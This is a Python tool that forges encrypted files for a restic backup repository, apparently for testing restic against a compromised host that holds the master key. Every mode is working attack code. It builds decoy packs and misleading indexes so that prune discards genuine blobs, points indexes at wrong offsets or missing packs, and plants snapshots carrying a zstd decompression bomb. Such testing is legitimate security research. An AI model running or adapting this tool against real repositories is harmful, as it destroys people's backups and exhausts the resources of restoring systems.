"""Forges files of a restic repository, as root on a host can: it has the password, and so the master key.

`forge.py KIND OUT` reads restic's master key and index files as a JSON object from standard input, and writes into
OUT what is to be uploaded, each file under the SHA-256 of its content, as restic names them:

- `elsewhere`: packs without any sense, and an index that lists all genuine blobs in them;
- `header`: packs whose header lists the genuine blobs too, with other content, and their index;
- `offsets`: an index alone, which lists the genuine blobs at wrong places of their own packs;
- `absent`: an index that lists the genuine blobs in packs that are nowhere;
- `claimed`: as `header`, for a blob that nobody has saved yet: the SHA-256 of its content is in `claim`;
- `large`: snapshots of eight megabytes each, of some hundred bytes to send, with a tree that is there.

The format is in restic's doc/design.rst: AES-256-CTR with a Poly1305-AES of the ciphertext.
"""

import base64
import ctypes
import ctypes.util
import hashlib
import json
import os
import sys

CRYPTO = ctypes.CDLL(ctypes.util.find_library("crypto") or "libcrypto.so.3")
for name in ("EVP_CIPHER_CTX_new", "EVP_aes_256_ctr", "EVP_aes_128_ecb"):
    getattr(CRYPTO, name).restype = ctypes.c_void_p
PACK_BYTES = 1 << 20
COPIES = 16
# Together more than is read of any program.
LARGE, BLOCKS = 10, 64
TYPES = {"data": 0, "tree": 1}


def aes(cipher, key, vector, data):
    context = ctypes.c_void_p(CRYPTO.EVP_CIPHER_CTX_new())
    out, length = ctypes.create_string_buffer(len(data) + 32), ctypes.c_int()
    CRYPTO.EVP_EncryptInit_ex(context, ctypes.c_void_p(getattr(CRYPTO, cipher)()), None, key, vector)
    CRYPTO.EVP_EncryptUpdate(context, out, ctypes.byref(length), data, len(data))
    CRYPTO.EVP_CIPHER_CTX_free(context)
    return out.raw[: len(data)]


def mac(key, nonce, data):
    r = int.from_bytes(base64.b64decode(key["r"]), "little") & 0x0FFFFFFC0FFFFFFC0FFFFFFC0FFFFFFF
    s = int.from_bytes(aes("EVP_aes_128_ecb", base64.b64decode(key["k"]), None, nonce), "little")
    total = 0
    for start in range(0, len(data), 16):
        total = (total + int.from_bytes(data[start : start + 16] + b"\1", "little")) * r % ((1 << 130) - 5)
    return ((total + s) % (1 << 128)).to_bytes(16, "little")


def seal(master, data):
    nonce = os.urandom(16)
    sealed = aes("EVP_aes_256_ctr", base64.b64decode(master["encrypt"]), nonce, data)
    return nonce + sealed + mac(master["mac"], nonce, sealed)


def put(out, kind, data):
    identity = hashlib.sha256(data).hexdigest()
    os.makedirs(f"{out}/{kind}", exist_ok=True)
    with open(f"{out}/{kind}/{identity}", "wb") as file:
        file.write(data)
    return identity


def forged_pack(master, out, blobs, with_header):
    """A pack with other content for each of `blobs`, none of it unused, of the size of a real one; its index entry."""
    content, listed, header = b"", [], b""
    for blob in blobs:
        sealed = seal(master, b"forged" if content else os.urandom(PACK_BYTES))
        listed.append({"id": blob["id"], "type": blob["type"], "offset": len(content), "length": len(sealed)})
        header += bytes([TYPES[blob["type"]]]) + len(sealed).to_bytes(4, "little") + bytes.fromhex(blob["id"])
        content += sealed
    # As long as a header would be: restic compares the sizes of packs with its index.
    end = seal(master, header if with_header else os.urandom(len(header)))
    return {"id": put(out, "data", content + end + len(end).to_bytes(4, "little")), "blobs": listed}


def zstd(before, letter, blocks, after):
    """A frame of RFC 8878: two raw blocks, and between them so many in which one letter is repeated 128 Ki times."""

    def block(kind, size, data, last=0):
        return (last | kind << 1 | size << 3).to_bytes(3, "little") + data

    repeated = block(1, 1 << 17, letter) * blocks
    return b"\x28\xb5\x2f\xfd\0\x68" + block(0, len(before), before) + repeated + block(0, len(after), after, 1)


def large_snapshot(master, out, number, tree):
    tags = [f"run=20990101T{number:06}Z-aaaaaa,form=2", "part=files"]
    rest = json.dumps({"time": "2026-01-01T00:00:00Z", "tree": tree, "hostname": "web", "tags": tags})
    return put(out, "snapshots", seal(master, b"\2" + zstd(b'{"paths":["/', b"a", BLOCKS, b'"],' + rest[1:].encode())))


def main():
    kind, out = sys.argv[1:]
    given = json.load(sys.stdin)
    master, packs = given["master"], [pack for index in given["indexes"] for pack in index["packs"]]
    blobs = {blob["id"]: blob for pack in packs for blob in pack["blobs"]}
    by_type = [[blob for blob in blobs.values() if blob["type"] == wanted] for wanted in TYPES]
    if kind == "offsets":
        entries = [
            {**pack, "blobs": [{**blob, "offset": blob["offset"] + 1} for blob in pack["blobs"]]} for pack in packs
        ]
    elif kind == "absent":
        entries = [{"id": os.urandom(32).hex(), "blobs": pack["blobs"]} for pack in packs]
    elif kind == "large":
        for number in range(LARGE):
            large_snapshot(master, out, number, by_type[1][0]["id"])
        return
    elif kind == "claimed":
        entries = [forged_pack(master, out, [{"id": given["claim"], "type": "data"}], True)]
    else:
        # Of all copies of a blob, prune keeps any one: the more are forged, the surer the genuine one goes.
        groups = [group for group in by_type if group] * COPIES
        entries = [forged_pack(master, out, group, kind == "header") for group in groups]
    put(out, "index", seal(master, json.dumps({"packs": entries}).encode()))


main()
